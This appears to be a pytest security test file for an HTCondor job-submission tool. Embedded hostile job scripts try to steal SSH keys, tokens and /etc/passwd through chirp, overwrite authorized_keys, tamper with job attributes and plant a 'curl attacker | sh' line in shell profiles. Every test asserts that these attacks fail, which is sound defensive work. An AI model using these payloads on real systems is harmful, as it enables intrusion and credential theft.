"""The hostile job: the script that a user copied from somewhere reaches nothing of the user's at the submit side.

At the worker node it can do what it likes. On the submit side HTCondor's chirp would let it act as the user.
"""

import json
import time

import pytest

from tests.attacks.attack import (
    AWAY,
    KEY,
    OWNER,
    PRIVATE_KEY,
    RUNNING,
    SECRETS,
    bundle_of,
    give,
    hostile,
    loot,
    rerun,
    settle,
    site_policy,
    snapshot,
)
from tests.pool.shell import Shell
from tests.staging.desk import Desk

pytestmark = [pytest.mark.condor]

TOKEN = "eyJ-the-token-of-the-victim"
ATTACK_S = 3
"""What the questions of an attack take at most."""
HIDDEN = "the results of another analysis"


def test_a_job_does_not_choose_where_its_outputs_are_put(victim: Shell) -> None:
    """It rewrites the request, so that hep_auth renew would put its file over ~/.ssh/authorized_keys."""
    keys = victim.account.home / ".ssh/authorized_keys"
    hostile(
        victim,
        "attack.py",
        f"""
open("r", "w").write({KEY!r})
for place in private("request.json"):
    put(place, re.sub(r'"[^"]*results/r"', lambda _: json.dumps({str(keys)!r}), get(place))) if get(place) else None
tell()
""",
    )
    before = snapshot(victim.account, victim.work)
    done = victim.result("hep_sub", "attack.py", *AWAY, "-out", "r=results/r")
    settle(victim, done["cluster"])
    loot(victim, done["cluster"])
    victim("hep_auth", "renew")
    assert before.changed_in(snapshot(victim.account, victim.work)) == []
    assert victim.text("results/r") == KEY


@pytest.mark.s3
def test_a_job_gets_no_url_and_no_token_that_were_not_submitted_with_it(desk: Desk) -> None:
    """It adds an input and a credential to the request, and forgets when the URLs were signed; renew comes along."""
    victim = desk.shell
    desk.put("hidden.dat", HIDDEN)
    token = victim.account.home / ".token"
    give(victim.account, token, TOKEN)
    more = f'[credential.iam]\nkind = "token"\ncommand = ["cat", "{token}"]\n'
    site_policy(victim, OWNER, more, endpoint=desk.server.endpoint)
    hostile(
        victim,
        "attack.py",
        """
def inject(part):
    if isinstance(part, dict):
        if isinstance(part.get("inputs"), list):
            part["inputs"].append({"name": "x", "url": "herd:raw/hidden.dat", "optional": False})
            wanted = {"name": "iam", "kind": "token", "file": "iam.token", "service": ""}
            part["credentials"] = [wanted]
        for each in part.values():
            inject(each)

did = False
for place in private("request.json"):
    if text := get(place):
        document = json.loads(text)
        inject(document)
        did |= put(place, json.dumps(document))
for place in private("signed.json"):
    did |= bool(get(place)) and put(place, "{}")

def look():
    manifests = [get(corner + "/hepsub.manifest") for corner in own()]
    urls = [line for text in manifests for line in text.splitlines() if "hidden.dat" in line]
    names = [*private("creds/iam.token"), *(corner + "/iam.token" for corner in own())]
    tokens = [text for text in map(get, names) if text]
    return [urls, tokens] if urls and tokens else None

found = wait_for(look, 12)  # renew comes meanwhile, whatever was done
open("r", "w").write("result")
tell(found=found)
""",
    )
    done = desk.submit("attack.py", *AWAY, "-out", "r=herd:out/r")
    cluster = done["cluster"]
    victim.wait_for_state(RUNNING, cluster)
    bundle = bundle_of(victim, done["uuid"])
    seen: set[str] = set()
    while victim.pool.jobs(f"ClusterId == {cluster}", ["ProcId"]) and not seen:
        victim("hep_auth", "renew")
        seen = {
            str(path.relative_to(bundle))
            for path in bundle.rglob("*")
            if path.is_file()
            and (path.name == "iam.token" or "hidden.dat?" in path.read_text(errors="replace"))
        }
    assert seen == set()
    settle(victim, cluster)
    assert loot(victim, cluster)["found"] is None
    assert desk.text("r") == "result"


def test_what_a_job_writes_runs_neither_in_its_next_run_nor_in_other_jobs(victim: Shell) -> None:
    """It replaces the wrapper and the scripts in the bundle; then it is released again, and the second job starts."""
    evil = "#!/bin/sh\nmkdir -p home.0 home.1\necho the code of the attacker ran\n"
    hostile(
        victim,
        "attack.py",
        f"""
if attribute("ProcId") != "0" or not is_first_run():
    print("the code of the user ran")
    sys.exit(0)
for bundle in bundles():
    names = ["wrapper.sh", "shared/wrapper.sh", "shared/sets/0/in/attack.py", "shared/sets/0/hepsub.sums"]
    names += [proc + "/in/attack.py" for proc in "01"]
    for name in names:
        if get(bundle + "/" + name):
            put(bundle + "/" + name, {evil!r})
time.sleep(60)
""",
    )
    line = ("attack.py", *AWAY, "-out", "r=results/r%{ProcId}", "-n", "2", "-np", "3")
    cluster = victim.result("hep_sub", *line)["cluster"]
    victim.wait_for_state(RUNNING, cluster)
    time.sleep(ATTACK_S)
    rerun(victim, cluster)
    settle(victim, cluster, 120)
    texts = [victim.text(f"attack.py.out.{cluster}.{proc}") for proc in range(2)]
    assert [text for text in texts if "attacker" in text] == []
    assert texts == ["the code of the user ran\n"] * 2


READ = """
wanted = {wanted!r}
others = [f"{{bundle}}/{{each}}" for bundle in bundles() for each in ("1/hepsub.manifest", "job/1/hepsub.manifest")]
secret = [*private("request.json"), *private("signed.json"), *private("ready")]
got = {{path: text[:200] for path in wanted for text in [steal(path)] if text}}
beside = {{path: text[:200] for path in others + secret for text in [steal(path)] if text}}
seen = [path for path in {directories!r} if ask("access", path, 4) == 0 or ask("stat", path) == 0 or get(path)]
open("r", "w").write("result")
tell(got=got, beside=beside, seen=seen)
"""


@pytest.mark.sid
@pytest.mark.parametrize("where", ["below the home", "in the home"])
def test_a_job_reads_nothing_on_the_submit_side(victim: Shell, where: str) -> None:
    """No key, no IDTOKEN, nothing beside its logs, no other job's manifest, not the request: by no verb of chirp."""
    home = victim.account.home
    give(victim.account, victim.work / "notes.txt", "the victim's notes")
    wanted = [str(home / name) for name in (*SECRETS, ".condor/tokens.d/pool")]
    wanted += [str(victim.work / "notes.txt"), "/etc/passwd"]
    hostile(
        victim,
        "attack.py",
        READ.format(wanted=wanted, directories=[str(home), str(home / ".ssh")]),
    )
    line = [str(victim.work / "attack.py"), *AWAY, "-out", "r=results/r%{ProcId}", "-n", "2"]
    if where == "in the home":
        line += ["-o", str(victim.work), "-e", str(victim.work)]
    there = home if where == "in the home" else victim.work
    cluster = victim.result("hep_sub", *line, cwd=there)["cluster"]
    settle(victim, cluster)
    found = loot(victim, cluster)
    assert found["got"] == {}
    assert found["beside"] == {}
    assert found["seen"] == []
    assert PRIVATE_KEY not in json.dumps(found)


@pytest.mark.sid
@pytest.mark.parametrize("where", ["below the home", "in the home"])
def test_a_job_changes_nothing_on_the_submit_side(victim: Shell, where: str) -> None:
    """No file of the user's is written, linked, made, given another mode or removed: by no verb of chirp."""
    home = victim.account.home
    hostile(
        victim,
        "attack.py",
        f"""
home = {str(home)!r}
for name in (".ssh/authorized_keys", ".bashrc"):
    spoil(home + "/" + name, {KEY!r})
for corner in corners():
    put(corner + "/evil", "curl attacker | sh")
    for verb in ("link", "symlink"):
        ask(verb, corner + "/evil", home + "/.bash_profile")
    ask("rename", corner + "/evil", home + "/.profile")
ask("chmod", home + "/.ssh", 511)
ask("chmod", home + "/.ssh/id_rsa", 438)
ask("utime", home + "/thesis.tex", 1, 1)
for verb in ("unlink", "rmall"):
    ask(verb, home + "/precious/a.root")
ask("truncate", home + "/thesis.tex", 0)
ask("mkdir", home + "/bin", 448)
tell()
""",
    )
    before = snapshot(victim.account, victim.work)
    there = home if where == "in the home" else victim.work
    line = (str(victim.work / "attack.py"), *AWAY, "-out", f"r={victim.work}/results/r")
    logs = ("-o", str(victim.work), "-e", str(victim.work))
    cluster = victim.result("hep_sub", *line, *logs, cwd=there)["cluster"]
    settle(victim, cluster)
    assert before.changed_in(snapshot(victim.account, victim.work)) == []
    assert (home / ".ssh").stat().st_mode & 0o777 == 0o700
    assert not (home / "bin").exists()


def test_what_is_sent_are_copies(victim: Shell) -> None:
    """A job that writes to the script and the input in the bundle does not write to the user's."""
    hostile(
        victim,
        "attack.py",
        """
for each in attribute("TransferInput").split(","):
    place = each.strip()
    names = get(place).split() if place.endswith("/") else []
    for name in [place, *(place + name for name in names)]:
        if name.rpartition("/")[2] in ("attack.py", "data.txt"):
            put(name, "spoilt")
for bundle in bundles():
    for directory in ("0/in/", "shared/sets/0/in/"):
        for name in ("attack.py", "data.txt"):
            if get(bundle + "/" + directory + name):
                put(bundle + "/" + directory + name, "spoilt")
tell()
""",
    )
    victim.account.write("data.txt", "the data")
    logs = victim.directory("logs")
    before = snapshot(victim.account, logs)
    line = ("attack.py", *AWAY, "-in", "data.txt", "-out", "r=results/r")
    cluster = victim.result("hep_sub", *line, "-o", "logs", "-e", "logs")["cluster"]
    settle(victim, cluster)
    assert before.changed_in(snapshot(victim.account, logs)) == []


@pytest.mark.sid
def test_a_job_does_not_change_its_own_ad(victim: Shell) -> None:
    """Where it may reach, what it is sent and what it runs: neither now nor in its next run."""
    home = victim.account.home
    hostile(
        victim,
        "attack.py",
        f"""
if not is_first_run():
    found = [open(name).read() for name in glob.glob("id_rsa") + glob.glob("../id_rsa")]
    open("r", "w").write("result")
    tell(found=found, read=get({str(home / ".ssh/id_rsa")!r}))
    sys.exit(0)
sent = attribute("TransferInput")
ask("set_job_attr", "LimitDirectoryAccess", {json.dumps(str(home))!r})
ask("set_job_attr", "TransferInput", json.dumps({str(home / ".ssh/id_rsa")!r} + "," + sent))
ask("set_job_attr", "WantIOProxy", "true")
ask("set_job_attr", "WantRemoteUpdates", "true")
ask("set_job_attr", "Iwd", {json.dumps(str(home))!r})
ask("set_job_attr", "HepSub_UUID", '"another"')
time.sleep(60)
""",
    )
    line = ("attack.py", *AWAY, "-out", "r=results/r")
    done = victim.result("hep_sub", *line)
    cluster = done["cluster"]
    names = ("LimitDirectoryAccess", "TransferInput", "WantIOProxy", "Cmd", "Iwd", "HepSub_UUID")
    before = {name: victim.ad(cluster).get(name) for name in names}
    victim.wait_for_state(RUNNING, cluster)
    time.sleep(ATTACK_S)
    assert {name: victim.ad(cluster).get(name) for name in names} == before
    rerun(victim, cluster)
    settle(victim, cluster, 120)
    found = loot(victim, cluster)
    assert (found["found"], found["read"]) == ([], "")
